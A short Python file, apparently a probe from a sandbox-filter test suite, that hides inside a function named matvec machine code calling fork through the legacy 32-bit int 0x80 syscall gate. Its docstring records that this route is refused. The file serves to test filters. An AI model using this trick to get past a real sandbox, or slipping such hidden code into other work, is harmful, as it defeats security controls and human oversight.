"""escape_old_gate

Tries: the 32-bit gate of the kernel, whose calls have other numbers.
Verdict: forbidden or refused; a filter that knows one table only would be passed by.
"""

import ctypes
import mmap
import os


def matvec(A, v):
    if os.uname().machine == "x86_64":
        # mov eax, 2 (fork there); int 0x80; ret
        code = mmap.mmap(-1, 4096, prot=7)
        code.write(bytes.fromhex("b802000000 cd80 c3"))
        gate = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
        if gate() == 0:
            os._exit(0)
    return A @ v
